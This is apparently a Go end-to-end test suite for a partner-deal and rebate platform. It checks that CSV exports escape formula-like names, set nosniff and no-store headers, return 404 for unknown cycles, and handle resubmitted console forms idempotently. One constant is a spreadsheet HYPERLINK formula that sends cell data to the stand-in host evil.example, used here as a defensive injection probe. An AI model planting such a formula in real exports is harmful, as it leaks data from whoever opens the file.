package e2e

import (
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
)

// formula is the review's probe: a name a spreadsheet would run.
const formula = `=HYPERLINK("http://evil.example/?d="&A1,"Open")`

// plainNumber is the one kind of cell the CSV writer leaves starting with
// "-": a plain (negative) number.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// csvCells parses a CSV download and fails on any cell a spreadsheet would
// run as a formula.
func csvCells(t *testing.T, name string, raw []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", name, err, raw)
	}
	for i, r := range rows {
		for j, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				t.Errorf("%s row %d column %d is a live formula: %q", name, i, j, cell)
			}
		}
	}
	return rows
}

// hasCell reports whether any row holds cell exactly.
func hasCell(rows [][]string, cell string) bool {
	for _, r := range rows {
		for _, c := range r {
			if c == cell {
				return true
			}
		}
	}
	return false
}

// Finding 3: a partner and a customer named like formulas come out as text
// in every export — the statement line's deals.csv, the payout file (the
// download and the file the worker wrote), statements.csv, the ledger.
// Finding 10: CSV answers are nosniff and no-store; statements.csv and
// payouts.csv of an unknown cycle answer 404; a 404 from the cycle's
// workflow says what is missing without Temporal's internals. Finding 17:
// the cycle shows period_end inclusive, the workflow's end as
// period_end_exclusive.
func TestExportsNeutraliseFormulas(t *testing.T) {
	partner, err := cliLine("partner", "create", "--name", formula, "--type", "reseller", "--tier", "gold")
	if err != nil {
		t.Fatal(err)
	}
	tok, err := cliLine("token", "create", "--role", "partner_user", "--partner", partner, "--name", "Eve Formula", "--email", "eve.formula@"+uniqueDomain())
	if err != nil {
		t.Fatal(err)
	}
	stack.tokens["formulaPartner"] = tok
	lastMonth := time.Date(time.Now().UTC().Year(), time.Now().UTC().Month(), 1, 0, 0, 0, 0, time.UTC).AddDate(0, -1, 0)
	closeDate := lastMonth.AddDate(0, 0, 9).Format(time.DateOnly)
	// A deal won last month cannot be reported through the API now (a close
	// date is never before the registration's submission): it is carried
	// over, named like a formula.
	deal := wonEarlier(t, partner, 120_00, []string{"csvsafety"}, closeDate)
	if _, err := stack.pool.Exec(t.Context(), `UPDATE deals SET customer_name = $1 WHERE id = $2`, formula, deal); err != nil {
		t.Fatal(err)
	}

	code := "csv-" + tag()
	prog := post(t, "/v1/incentive-programs", "finance", map[string]any{"code": code, "name": "CSV safety rebate", "kind": "rebate",
		"currency": "USD", "period": "month", "grace_days": 5, "starts_on": lastMonth.Format(time.DateOnly),
		"rules": map[string]any{"mode": "marginal", "tiers": []map[string]any{{"above": 0, "rate_bp": 500}}, "product_lines": []string{"csvsafety"}}}).
		must(t, http.StatusCreated)
	cycleID := post(t, "/v1/cycles", "finance", map[string]any{"program_id": prog.str("id"), "period_start": closeDate}).
		must(t, http.StatusAccepted).str("id")
	c := "/v1/cycles/" + cycleID
	// In review: its lines are there and the workflow takes review steps.
	waitFor(t, 30*time.Second, func() bool {
		return cycleReady(t, c, "manager")
	})
	lines, _ := call(t, http.MethodGet, c+"/lines?partner_id="+partner, stack.tokens["manager"], nil).must(t, http.StatusOK).body["lines"].([]any)
	if len(lines) != 1 {
		t.Fatalf("lines of the partner: %v", lines)
	}
	lineID := lines[0].(map[string]any)["id"].(string)
	cycle := call(t, http.MethodGet, c, stack.tokens["manager"], nil).must(t, http.StatusOK)
	wf, _ := cycle.body["workflow"].(map[string]any)
	lastDay := lastMonth.AddDate(0, 1, -1).Format(time.DateOnly)
	if cycle.str("period_end") != lastDay || wf == nil || wf["period_end_exclusive"] != lastMonth.AddDate(0, 1, 0).Format(time.DateOnly) || wf["period_end"] != nil {
		t.Errorf("cycle's period ends: %s", cycle.raw)
	}
	stray := post(t, c+"/lines/"+uuid.NewString()+"/adjust", "finance", map[string]any{"amount": 1, "reason": "x"}).
		problem(t, http.StatusNotFound, "urn:dealflow:problem:not-found")
	if detail := stray.str("detail"); strings.Contains(detail, "type:") || strings.Contains(detail, "retryable") || !strings.Contains(detail, "no line") {
		t.Errorf("404 detail %q", detail)
	}
	post(t, c+"/approve", "finance", map[string]any{"reason": "checked"}).must(t, http.StatusOK)
	waitFor(t, 30*time.Second, func() bool {
		return call(t, http.MethodGet, c, stack.tokens["manager"], nil).must(t, http.StatusOK).str("status") == "paid"
	})

	downloads := map[string]response{
		"deals.csv":      call(t, http.MethodGet, "/v1/statement-lines/"+lineID+"/deals.csv", tok, nil).must(t, http.StatusOK),
		"payouts.csv":    call(t, http.MethodGet, c+"/payouts.csv", stack.tokens["finance"], nil).must(t, http.StatusOK),
		"statements.csv": call(t, http.MethodGet, c+"/statements.csv", stack.tokens["finance"], nil).must(t, http.StatusOK),
		"ledger.csv":     call(t, http.MethodGet, "/v1/ledger.csv", stack.tokens["finance"], nil).must(t, http.StatusOK),
	}
	rows := map[string][][]string{}
	for name, r := range downloads {
		if r.header.Get("X-Content-Type-Options") != "nosniff" || r.header.Get("Cache-Control") != "no-store" ||
			!strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
			t.Errorf("%s headers %v", name, r.header)
		}
		rows[name] = csvCells(t, name, r.raw)
	}
	if !hasCell(rows["deals.csv"], "'"+formula) {
		t.Errorf("deals.csv lacks the customer as text:\n%s", downloads["deals.csv"].raw)
	}
	if !hasCell(rows["payouts.csv"], "'"+formula) {
		t.Errorf("payouts.csv lacks the partner as text:\n%s", downloads["payouts.csv"].raw)
	}
	if !hasCell(rows["statements.csv"], lineID) {
		t.Errorf("statements.csv lacks line %s:\n%s", lineID, downloads["statements.csv"].raw)
	}
	files, _ := filepath.Glob(filepath.Join(stack.payoutDir, code+"-*.csv"))
	if len(files) != 1 {
		t.Fatalf("payout files %v", files)
	}
	file, _ := os.ReadFile(files[0])
	if string(file) != string(downloads["payouts.csv"].raw) {
		t.Errorf("the payout file differs from the download:\n%s", file)
	}
	if !hasCell(csvCells(t, "payout file", file), "'"+formula) {
		t.Errorf("payout file lacks the partner as text:\n%s", file)
	}
	if out, stderr, err := dealflow("ledger", "verify"); err != nil || !strings.Contains(out, `"ok": true`) {
		t.Fatalf("ledger verify: %v\n%s\n%s", err, out, stderr)
	}

	// Every CSV route answers 404 for what does not exist, never an empty 200.
	unknown := uuid.NewString()
	for _, path := range []string{"/v1/cycles/" + unknown + "/statements.csv", "/v1/cycles/" + unknown + "/payouts.csv",
		"/v1/statement-lines/" + unknown + "/deals.csv", "/v1/cycles/not-a-uuid/statements.csv"} {
		call(t, http.MethodGet, path, stack.tokens["finance"], nil).problem(t, http.StatusNotFound, "urn:dealflow:problem:not-found")
	}
	finance, _ := consoleClient(t, "finance")
	get(t, finance, "/console/cycles/"+unknown+"/statements.csv", http.StatusNotFound)
}

// Finding 10f: the console's registration form, sent again with its
// idempotency key, opens the deal it registered; sent again with the same
// key and other values, it registers nothing and says so, pointing at the
// earlier deal, with a fresh key to register a new one on purpose.
func TestConsoleResubmissionWithAnotherBody(t *testing.T) {
	cl, csrf := consoleClient(t, "partnerA")
	key := uuid.NewString()
	form := url.Values{"csrf": {csrf}, "idempotency_key": {key}, "kind": {"resale"}, "customer_name": {uniqueName()},
		"customer_domain": {uniqueDomain()}, "customer_country": {"US"}, "contact_name": {"Jane Buyer"}, "contact_email": {"jane@example.com"},
		"product_lines": {"firewall"}, "amount": {"12500.00"}, "currency": {"USD"},
		"expected_close_date": {time.Now().UTC().AddDate(0, 2, 0).Format(time.DateOnly)}}
	send := func(f url.Values) *http.Response {
		t.Helper()
		res, err := cl.PostForm(stack.baseURL+"/console/deals", f)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	first := send(form)
	first.Body.Close()
	loc := first.Header.Get("Location")
	if first.StatusCode != http.StatusSeeOther || !strings.HasPrefix(loc, "/console/deals/") {
		t.Fatalf("first submission: %d %s", first.StatusCode, loc)
	}
	dealID := strings.TrimPrefix(strings.SplitN(loc, "?", 2)[0], "/console/deals/")
	again := send(form)
	again.Body.Close()
	if again.StatusCode != http.StatusSeeOther || !strings.HasPrefix(again.Header.Get("Location"), "/console/deals/"+dealID) {
		t.Fatalf("same form again: %d %s", again.StatusCode, again.Header.Get("Location"))
	}
	other := url.Values{}
	for k, v := range form {
		other[k] = v
	}
	other.Set("amount", "62500000.00")
	res := send(other)
	defer res.Body.Close()
	page, _ := io.ReadAll(res.Body)
	if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(string(page), "already submitted") ||
		!strings.Contains(string(page), "/console/deals/"+dealID) || strings.Contains(string(page), `value="`+key+`"`) {
		t.Fatalf("same key, other amount: %d\n%s", res.StatusCode, page)
	}
	if n := countRows(t, "deals", "id = $1 AND amount = 1250000", dealID); n != 1 {
		t.Fatalf("the first deal changed: %d rows with its amount", n)
	}
}
